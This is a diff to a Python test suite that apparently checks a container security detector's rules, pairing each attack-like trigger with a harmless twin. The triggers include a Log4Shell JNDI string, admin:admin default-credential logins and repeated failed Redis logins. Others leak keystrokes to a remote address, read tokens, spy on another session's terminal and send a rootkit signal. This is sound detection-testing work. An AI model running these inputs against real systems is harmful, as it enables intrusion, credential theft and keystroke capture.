@@ -11,6 +11,7 @@ import os
 import pathlib
 import pty
 import re
+import signal
 import socket
 import subprocess
 import tarfile
@@ -166,6 +167,8 @@ CASES = [
     Case("Token read and used", SOON + f"/bin/cat {TOKEN}; actor connect 10.96.0.1 443", SOON + "/bin/cat /etc/motd; actor connect 10.96.0.1 443"),
     Case("Keyboard read", SOON + "/bin/cat /dev/input/event0", SOON + "/bin/cat /dev/null; /bin/ls /dev/input", KEYBOARD),
     Case("Keyboard read and sent", SOON + "actor leak /dev/input/event0 10.9.0.5 8080", SOON + "actor leak /dev/null 10.9.0.6 8080", KEYBOARD, also=["Keyboard read"]),
+    Case("Keyboard read", SOON + "actor mknod /tmp/k 13 64; actor open /tmp/k; true", SOON + "actor open /dev/null", ("--device-cgroup-rule", "c 13:* rw"), also=["Device made in a container"]),
+    Case("Terminal of another session read", SOON + "actor terminal other", SOON + "actor terminal own; /bin/ls -l /dev/pts >/dev/null"),
     Case("Signal of a rootkit", "/bin/kill -62 HOSTPID", "/bin/sleep 3 & /bin/kill -62 $!; /bin/kill -0 HOSTPID", ("--pid", "host")),
     Case("BPF program that changes others", "actor bpf write", "actor bpf map", SYS_ADMIN),
     Case("Hardware or clock of the host touched", "actor swapon", "actor true", (*SYS_ADMIN, "--security-opt", "seccomp=unconfined")),
@@ -298,6 +301,67 @@ def told(host):
     return host.alerts(), {f"b-{i}": (also, {c.rule for c in cases}) for i, ((_, also), cases) in enumerate(twins.items())}
 
 
+HELLO = "GET / HTTP/1.1\\r\\nAuthorization: Basic %s\\r\\n\\r\\n"
+FROM_OUTSIDE = {  # rule: what the server does, what clients outside do that cause it, and what others do that do not: (address, port, text, times)
+    "Default credentials used from outside": ("actor listen 8000 8000", ("127.0.0.1", 8000, HELLO % "YWRtaW46YWRtaW4=", 1), ("127.0.0.1", 8000, HELLO % "YWRtaW46azcjcFE=", 1)),
+    "Logins from outside refused again and again": ("actor answer 6379 8000 '-WRONGPASS invalid'", ("127.0.0.1", 6379, "AUTH x7kpQ\\r\\n", 16), ("127.0.0.1", 6379, "AUTH x7kpQ\\r\\n", 5)),
+    "Database lets strangers in": ("actor zeros 5432 8000", ("93.184.216.34", 5432, "hello", 1), ("127.0.0.1", 5432, "hello", 1)),
+    "Request with an attack in it": ("actor listen 8001 8000", ("127.0.0.1", 8001, "GET /?x=${jndi:ldap://x/a} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 1),
+                                     ("127.0.0.1", 8001, "GET /index.html HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 1)),
+}
+
+
+@pytest.mark.parametrize("rule", FROM_OUTSIDE)
+def test_from_outside(host, rule):
+    """What a server in a container is told by a client that is in none: a program of the host that enters the container's network only."""
+    serve, trigger, twin = FROM_OUTSIDE[rule]
+    for what, (address, port, text, times) in (("caused", trigger), ("not", twin)):
+        name = f"outside-{what}-{port}"
+        host.docker("run", "-d", "--rm", "--name", name + OWN, "--network", "none", "--cap-add", "NET_ADMIN", "pack:1", "/bin/sh", "-c", f"/bin/busybox ip addr add 93.184.216.34/32 dev lo; exec {serve}")
+        host.watch.wait_for(lambda l: l["type"] == "listen" and l.get("container", {}).get("name") == name + OWN)
+        pid = host.docker("inspect", "-f", "{{.State.Pid}}", name + OWN).decode().strip()
+        subprocess.run(["nsenter", "-t", pid, "-n", f"/proc/{pid}/root/bin/actor", "say", address, str(port), text, str(times)], check=True, timeout=20)
+        said = host.watch.wait_for(lambda l: l.get("container", {}).get("name") == name + OWN and any(l.get(l["type"], {}).get("accepted") for _ in "1"))
+        assert all(l["process"]["exe"] == "/bin/actor" for l in said)
+        if what == "caused":
+            host.watch.wait_for(lambda l: l["type"] == "alert" and l.get("container", {}).get("name") == name + OWN)
+        host.docker("rm", "-f", name + OWN)
+        host.watch.wait_for(lambda l: l["type"] == "container_end" and l["container"]["name"] == name + OWN)
+        assert {a["rule"] for a in host.alerts().get(name, [])} == ({rule} if what == "caused" else set())
+
+
+def test_from_another_network(host):
+    """A client in a network of its own, at the other end of a wire: what it says to the container is told once, with its address."""
+    away = subprocess.Popen(["unshare", "--net", "sleep", "60"])
+    try:
+        host.docker("run", "-d", "--rm", "--name", "wired" + OWN, "--network", "none", "pack:1", "/bin/actor", "listen", "8003", "8000")
+        host.watch.wait_for(lambda l: l["type"] == "listen" and l.get("container", {}).get("name") == "wired" + OWN)
+        pid = host.docker("inspect", "-f", "{{.State.Pid}}", "wired" + OWN).decode().strip()
+        wire = subprocess.run(["ip", "link", "add", "eth0", "netns", str(away.pid), "type", "veth", "peer", "name", "eth0", "netns", pid], capture_output=True, text=True)
+        if wire.returncode != 0:
+            pytest.skip("no veth: " + wire.stderr.strip())
+        for net, address in ((str(away.pid), "93.184.216.34"), (pid, "93.184.216.35")):
+            subprocess.run(["nsenter", "-t", net, "-n", "sh", "-c", f"ip addr add {address}/24 dev eth0; ip link set eth0 up"], check=True)
+        say = ["nsenter", "-t", str(away.pid), "-n", f"/proc/{pid}/root/bin/actor", "say", "93.184.216.35", "8003", HELLO % "YWRtaW46YWRtaW4=", "1"]
+        subprocess.run(say, check=True, timeout=20)
+        host.watch.wait_for(lambda l: l["type"] == "alert" and l.get("container", {}).get("name") == "wired" + OWN)
+        said, = [l for l in host.watch.lines() if l["type"] == "http" and l.get("container", {}).get("name") == "wired" + OWN]
+        assert said["http"]["accepted"] and said["http"]["peer"] == "93.184.216.34" and said["process"]["exe"] == "/bin/actor"
+        assert [a["rule"] for a in host.alerts()["wired"]] == ["Default credentials used from outside"]
+    finally:
+        away.kill()
+        away.wait()
+        host.docker("rm", "-f", "wired" + OWN)
+
+
+def test_both_ends_tell_once(host):
+    """What passes between two programs of containers is told by the one that connected, and not again by the other."""
+    host.shell("both-ends", (), "actor answer 8002 1500 hello & actor say 127.0.0.1 8002 'GET /once HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' 1")
+    host.watch.wait_for(lambda l: l["type"] == "container_end" and l["container"]["name"] == "both-ends" + OWN)
+    said = [l["type"] for l in host.watch.lines() if l.get("container", {}).get("name") == "both-ends" + OWN and l["type"] in ("http", "payload")]
+    assert said == ["http", "payload"]
+
+
 def name_of_every_rule():
     rules = [r for f in sorted(PACK.glob("*.yaml")) for r in yaml.safe_load(f.read_text())]
     return [r["rule"] for r in rules if "rule" in r and "remember" not in r]
@@ -307,6 +371,7 @@ def test_every_rule_is_tested_with_a_twin():
     by_records = set(re.findall(r'^ *\{"([^"]+)", \w+, \w+\}', (ROOT / "src/detect/test-pack.c").read_text(), re.M))
     import test_acceptance  # which has triggers and twins of the others, and imports this module
     by_containers = {c.rule for c in CASES if (c.trigger or c.main) and c.twin} | {BY_HAND}
+    by_containers |= set(FROM_OUTSIDE)
     by_containers |= ({row.alert for row in test_acceptance.ROWS} | {"Attack tool ran on the host"}) & set(test_acceptance.TWINS)
     rules = name_of_every_rule()
     assert len(rules) == len(set(rules))
@@ -330,6 +395,30 @@ def test_twins(told):
         found = {a["rule"] for a in alerts.get(name, [])} - also
         wrong.update({name: found} if found else {})
     assert wrong == {}
+
+
+def test_terminal_of_the_host(host):
+    """A terminal of this machine that a container was given is another's too, whatever path leads to it; one on which no session runs is nobody's."""
+    pid, master = pty.fork()
+    if not pid:
+        os.execv("/bin/sleep", ["sleep", "60"])
+    while not (ours := os.readlink(f"/proc/{pid}/fd/0")).startswith("/dev/pts/"):
+        time.sleep(0.01)  # it is its session's from then on
+    spare, nobodys = pty.openpty()
+    try:
+        for name, terminal in (("host-terminal", ours), ("nobodys-terminal", os.ttyname(nobodys))):
+            host.shell(name, ("-v", "/dev/pts:/there"), f"/bin/sleep 1; actor spy /there/{os.path.basename(terminal)}; /bin/sleep 1")
+        host.watch.wait_for(lambda l: l["type"] == "container_end" and l["container"]["name"] == "nobodys-terminal" + OWN)
+        told = host.alerts()
+        alert, = told["host-terminal"]
+        assert alert["rule"] == "Terminal of another session read" and alert["process"]["args"] == ["actor", "spy", f"/there/{os.path.basename(ours)}"] and "nobodys-terminal" not in told
+        opened, = [l for l in host.watch.lines() if l["type"] == "file" and l.get("container", {}).get("name") == "host-terminal" + OWN and l["file"].get("node")]
+        assert opened["file"]["node"] == "terminal" and opened["file"]["path"] == f"/there/{os.path.basename(ours)}" and opened["file"]["watch"] == "device" and opened["file"]["source"] != "fanotify"
+    finally:
+        os.kill(pid, signal.SIGKILL)
+        os.waitpid(pid, 0)
+        for fd in (master, spare, nobodys):
+            os.close(fd)
 
 
 def test_shell_opened_by_hand(host):
